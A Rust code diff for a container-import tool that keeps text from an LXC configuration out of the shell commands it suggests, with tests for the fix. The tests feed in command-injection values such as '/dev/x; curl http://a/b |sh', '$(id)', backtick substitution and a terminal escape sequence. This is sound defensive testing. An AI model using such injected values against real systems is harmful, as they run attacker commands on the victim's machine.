@@ -10,6 +10,7 @@ use super::archive;
 use super::dirfd::{FileError, child_dir, child_file, open_dir, read_limited};
 use super::foreign::Told;
 use super::foreign_find::CONFIG_MOST;
+use super::foreign_words::{named, plain_word};
 use super::machine_find::look_inside;
 use super::pack_format::PackError;
 use super::{foreign_lxc, foreign_openvz, foreign_pve};
@@ -65,7 +66,9 @@ pub(super) fn look(path: &Path, config: Option<&Path>) -> Result<Option<Beside>,
     let top = open_dir(path)?;
     let root = child_dir(&top, c"rootfs");
     let is_mounted = root.as_ref().err() == Some(&Errno::XDEV);
-    let root = root.ok();
+    // Below a root that is one itself, folders and files of these names are whatever its tenant made.
+    let is_root = look_inside(&top).is_ok();
+    let root = root.ok().filter(|_| !is_root);
     if let Some(config) = config {
         let (program, told) = config_file(config)?;
         let root = root.filter(|_| program == "LXC");
@@ -75,14 +78,14 @@ pub(super) fn look(path: &Path, config: Option<&Path>) -> Result<Option<Beside>,
             root,
         }));
     }
-    if let Ok(file) = child_file(&top, c"config") {
+    if !is_root && let Ok(file) = child_file(&top, c"config") {
         let shown = path.join("config");
         let data =
             read_limited(file, CONFIG_MOST).map_err(|e| FileError::new("read", &shown, e))?;
         let text = String::from_utf8_lossy(&data);
         if foreign_lxc::is_one(&text) {
             let place = foreign_lxc::root_elsewhere(&text);
-            if let Some(place) = place.or(is_mounted.then_some("mounted there"))
+            if (place.is_some() || is_mounted)
                 && root.as_ref().is_none_or(|root| look_inside(root).is_err())
             {
                 return Err(PackError::Newcomer(mount_first(path, place, is_mounted)));
@@ -106,33 +109,42 @@ pub(super) fn look(path: &Path, config: Option<&Path>) -> Result<Option<Beside>,
     private_area(path)
 }
 
-/// What to do about a container of LXC whose root is a filesystem of its own.
-fn mount_first(path: &Path, place: &str, is_mounted: bool) -> String {
+/// What to do about a container of LXC whose root is a filesystem of its own. What its configuration calls
+/// that is a stranger's text: it stands in a command only if it is one word to a shell.
+fn mount_first(path: &Path, place: Option<&str>, is_mounted: bool) -> String {
     let (shown, config) = (path.join("rootfs"), path.join("config"));
-    let place: String = place.chars().take(200).collect();
-    let import = |root: &str| {
-        format!(
-            "`bulkhead import --from {root} --config {}`",
-            config.display()
-        )
+    let import = |root: &Path| {
+        let words = root.to_str().zip(config.to_str());
+        let words = words.and_then(|(root, config)| plain_word(root).zip(plain_word(config)));
+        match words {
+            Some((root, config)) => format!("`bulkhead import --from {root} --config {config}`"),
+            None => format!(
+                "import {} with --from, and `config` of the container's folder with --config",
+                named(&root.to_string_lossy())
+            ),
+        }
     };
     if is_mounted {
-        let root = shown.display().to_string();
+        let what = place.map_or_else(String::new, |place| format!(" ({})", named(place)));
         return format!(
-            "its root is a filesystem of its own ({place}): {}",
-            import(&root)
+            "its root is a filesystem of its own{what}: {}",
+            import(&shown)
         );
     }
-    let mount = match place.split_once(':') {
-        Some(("zfs", dataset)) => format!("`mount -t zfs -o ro,zfsutil {dataset} /mnt`"),
-        Some(("lvm" | "loop", device)) => format!("`mount -o ro {device} /mnt`"),
-        None => format!("`mount -o ro {place} /mnt`"),
-        Some(_) => "mount that read-only at /mnt".to_owned(),
+    let place = place.unwrap_or_default();
+    let (kind, device) = match place.split_once(':') {
+        Some((kind, device)) => (Some(kind), device),
+        None => (None, place),
+    };
+    let mount = match (kind, plain_word(device)) {
+        (Some("zfs"), Some(dataset)) => format!("`mount -t zfs -o ro,zfsutil {dataset} /mnt`"),
+        (Some("lvm" | "loop") | None, Some(device)) => format!("`mount -o ro {device} /mnt`"),
+        _ => "mount that read-only at /mnt".to_owned(),
     };
     format!(
-        "its root is not in the folder but on {place}, and not mounted: stop the container, {mount}, \
-         then {}",
-        import("/mnt")
+        "its root is not in the folder but on {}, and not mounted: stop the container, {mount}, then {}",
+        named(place),
+        import(Path::new("/mnt"))
     )
 }
 
@@ -242,6 +254,54 @@ mod tests {
         // It is mounted, or was copied there.
         std::fs::create_dir(folder.path().join("rootfs/etc")).unwrap();
         assert!(look(folder.path(), None).unwrap().is_some());
+    }
+
+    #[test]
+    fn what_a_strangers_text_says_is_no_command() {
+        let folder = TempDir::new("foreign");
+        let refused = |folder: &Path, place: &str| {
+            let text = format!("lxc.uts.name = web\nlxc.rootfs.path = {place}\n");
+            std::fs::write(folder.join("config"), text).unwrap();
+            look(folder, None).err().unwrap().to_string()
+        };
+        for place in [
+            "/dev/x; curl http://a/b |sh",
+            "lvm:/dev/x`id`",
+            "zfs:tank/$(id)",
+            "zfs:-o/x",
+            "loop:/a\u{1b}]0;b",
+            "lvm:",
+        ] {
+            let said = refused(folder.path(), place);
+            assert!(said.contains("mount that read-only at /mnt"), "{said}");
+            assert!(
+                !said.contains("mount -") && !said.contains('\u{1b}'),
+                "{said}"
+            );
+            assert!(said.contains("`bulkhead import --from /mnt"), "{said}");
+        }
+        // Nor what the folder is called.
+        let odd = folder.path().join("a; id");
+        std::fs::create_dir(&odd).unwrap();
+        let said = refused(&odd, "lvm:/dev/lxc/web");
+        assert!(said.contains("`mount -o ro /dev/lxc/web /mnt`"), "{said}");
+        assert!(
+            !said.contains("; id") && said.contains("with --config"),
+            "{said}"
+        );
+    }
+
+    #[test]
+    fn what_lies_in_a_root_says_nothing_of_it() {
+        let folder = TempDir::new("foreign");
+        let top = folder.path();
+        std::fs::write(top.join("config"), "lxc.uts.name = other\n").unwrap();
+        std::fs::create_dir_all(top.join("rootfs/etc")).unwrap();
+        assert!(look(top, None).unwrap().unwrap().root.is_some());
+        std::fs::create_dir(top.join("etc")).unwrap();
+        assert!(look(top, None).unwrap().is_none());
+        let named = look(top, Some(&top.join("config"))).unwrap().unwrap();
+        assert!(named.root.is_none() && named.told.name == "other");
     }
 
     #[test]
